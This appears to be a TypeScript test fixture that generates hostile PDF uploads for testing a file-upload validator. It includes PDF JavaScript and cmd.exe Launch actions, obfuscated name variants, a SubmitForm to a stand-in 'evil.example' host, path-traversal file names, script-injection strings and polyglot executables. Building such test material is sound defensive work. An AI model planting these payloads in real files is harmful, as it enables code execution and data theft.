/** Scans as scanners write them, and forty files that are none. */

/** @param text what the page shows; it only makes scans differ */
export function scan(text: string, version = '1.7'): Buffer {
  const page = `%PDF-${version}\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n% ${text}\n`;
  return Buffer.from(`${page}xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R >>\nstartxref\n${page.length}\n%%EOF\n`, 'latin1');
}

function withEntry(entry: string): Buffer {
  return Buffer.from(scan('x').toString('latin1').replace('/Type /Catalog', `/Type /Catalog ${entry}`), 'latin1');
}

const OTHER_TYPES = ['MZ\u0090', 'PK\u0003\u0004', '<html>', '<?xml version="1.0"?>', '\u0089PNG\r\n', 'GIF89a', '\u007fELF', '#!/bin/sh', '\u00d0\u00cf\u0011\u00e0', '{"a":1}'];
const BROKEN = ['', '%PDF', '%PDF-', '%pdf-1.7\n', ' %PDF-1.7\n', '\ufeff%PDF-1.7\n', '%PDF-9.9\n', '%PDF-1.7', '%PDF-1.7\n', '%PDF-<html><script>alert(1)</script>'];
const ACTIVE = [
  '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
  '/AA << /O 3 0 R >>',
  '/Names << /JavaScript 3 0 R >>',
  '/Names << /EmbeddedFiles 3 0 R >>',
  '/OpenAction << /S /Launch /F (cmd.exe) >>',
  '/J#61vaScript 3 0 R',
  '/#4aS (x)',
  '/#4C#61unch 3 0 R',
  '/AcroForm << /XFA 3 0 R >>',
  '/A << /S /SubmitForm /F (https://evil.example) >>',
  '/A << /S /ImportData >>',
  '/RichMedia 3 0 R',
];

export const MEGABYTES_10 = 10 * 1024 * 1024;

/** Name → content. Names that try to leave the store: they must not matter. */
export const HOSTILE_FILES: ReadonlyMap<string, Buffer> = new Map<string, Buffer>([
  ...OTHER_TYPES.map((begin, at) => [`other-type-${at}.pdf`, Buffer.from(begin.padEnd(600, ' '), 'latin1')] as const),
  ...BROKEN.map((text, at) => [`broken-${at}.pdf`, Buffer.from(text, 'latin1')] as const),
  ...ACTIVE.map((entry, at) => [`active-${at}.pdf`, withEntry(entry)] as const),
  ['malware.pdf', scan('EICAR-STANDARD-ANTIVIRUS-TEST-FILE')],
  ['form.pdf.exe', Buffer.from(`MZ${scan('x').toString('latin1')}`, 'latin1')],
  ['../../etc/passwd', Buffer.from('root:x:0:0')],
  ['..\\..\\form.pdf', Buffer.from('%PDF-1.7\n..')],
  ['too-large.pdf', Buffer.concat([scan('x'), Buffer.alloc(MEGABYTES_10 + 1)])],
  ['one-byte-too-large.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(MEGABYTES_10 - 8)])],
  ['two-ends.pdf', Buffer.concat([scan('x'), Buffer.from('<script>alert(1)</script>')])],
  ['nothing-but-end.pdf', Buffer.from('startxref\n0\n%%EOF\n')],
]);
